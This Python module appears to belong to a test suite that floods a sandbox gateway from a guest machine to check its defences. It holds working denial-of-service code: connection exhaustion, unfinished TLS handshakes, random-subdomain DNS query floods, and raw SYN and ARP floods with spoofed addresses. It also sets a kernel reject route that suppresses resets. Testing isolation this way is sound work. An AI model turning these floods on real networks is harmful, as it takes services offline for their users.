"""More of everything than anybody needs, until the host has seen what becomes of others meanwhile.

Where nothing is defended all of it goes to a naive gateway, whose port `facts["flooded"]` says.
"""

import contextlib
import fcntl
import itertools
import random
import socket
import struct
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from . import network
from .meanwhile import HOLD_S, deadline, hold
from .network import GATEWAY, hello, ip4, labels_of, my_mac, query, sni, tcp4
from .notes import facts, tried

FLOODING, OVER = "flooding", "over"
"""Steps: it floods; it may end."""
OPEN = 400
_numbers = itertools.count(random.randrange(1 << 20))


def flood(mark: str, what: Callable[[], Any]) -> None:
    """Does something as often as it can."""
    tried.append("flood")
    hold(mark)
    deadline(HOLD_S)
    place = Path(facts["place"])
    began = time.monotonic()
    while not (place / f"go-{OVER}").exists():
        for _ in range(20):
            with contextlib.suppress(OSError):
                what()
        del tried[1:]
        if time.monotonic() - began > 2:
            (place / f"held-{mark}-{FLOODING}").touch()


def to(name: str, port: int) -> "tuple[str, int]":
    """Where a flood of connections to a site goes."""
    return (GATEWAY, facts["flooded"]) if "flooded" in facts else (network.addr(name), port)


def connecting(where: "tuple[str, int]", data: bytes = b"", kept: int = OPEN) -> Callable[[], None]:
    """Opens connections, says something or nothing, and keeps them."""
    held: list[socket.socket] = []

    def one() -> None:
        sock = socket.socket()
        sock.settimeout(0.5 if data else 0.05)
        held.append(sock)
        with contextlib.suppress(OSError):
            sock.connect(where)
            sock.sendall(data)
        if len(held) > kept:
            held.pop(0).close()

    return one


def hellos(name: str) -> bytes:
    """What begins a handshake that is not gone on with."""
    return hello(sni(name.encode()), f"x{next(_numbers)}")


def asking(name: str) -> Callable[[], Any]:
    """Asks for ever new names below one, and waits for no answer."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.connect((GATEWAY, facts.get("flooded", 53)))
    return lambda: sock.send(query(labels_of(f"n{next(_numbers)}.{name}")))


@contextlib.contextmanager
def no_way_to(address: str) -> Iterator[None]:
    """What this kernel itself sends to an address goes nowhere meanwhile: it would reset connections that it knows nothing of."""
    end, mask = (
        struct.pack("H2x4s8x", socket.AF_INET, socket.inet_aton(address)),
        struct.pack("H2x4s8x", socket.AF_INET, b"\xff" * 4),
    )
    route = struct.pack("8x16s16x16sHh4x8x8xh6x8x8x8xH6x", end, mask, 0x0205, 0, 0, 0)  # RTF_UP | RTF_HOST | RTF_REJECT
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        try:
            fcntl.ioctl(sock, 0x890B, route)
        except OSError as error:
            raise LookupError(f"this kernel cannot be kept silent: {error!r}") from error
        try:
            yield
        finally:
            fcntl.ioctl(sock, 0x890C, route)


def begin_only(mark: str, where: "tuple[str, int]", *, others: bool) -> None:
    """A flood of `segments`."""
    one = segments(where, others=others)
    with no_way_to(where[0]):
        flood(mark, one)


def segments(where: "tuple[str, int]", *, others: bool) -> Callable[[], None]:
    """Begins of connections that nobody goes on with, of this guest or of whoever."""
    head = network.gateway_mac() + my_mac() + b"\x08\0"

    def one(number: int) -> bytes:
        source = f"10.200.0.{3 + number % 250}" if others else network.ME
        return head + ip4(where[0], 6, tcp4(where[0], where[1], b"", src=source, sport=2000 + number), src=source)

    return _sending([one(number) for number in range(500)])


def strangers() -> Callable[[], None]:
    """Asks the gateway for its hardware address in the names of hundreds of others."""

    def one(number: int) -> bytes:
        source = b"\x02\0\0\0" + struct.pack(">H", number)
        asked = b"\0\1\x08\0\6\4\0\1" + source + socket.inet_aton(f"10.200.0.{number}")
        return b"\xff" * 6 + source + b"\x08\6" + asked + b"\0" * 6 + socket.inet_aton(GATEWAY)

    return _sending([one(number) for number in range(3, 255)])


def _sending(frames: "list[bytes]") -> Callable[[], None]:
    """Sends frames one after the other, again and again. They are made before: most of a flood's time would go into that."""
    sock, rest = socket.socket(socket.AF_PACKET, socket.SOCK_RAW), itertools.cycle(frames)
    sock.bind(("eth0", 0))

    def some() -> None:
        for _ in range(20):
            sock.send(next(rest))

    return some
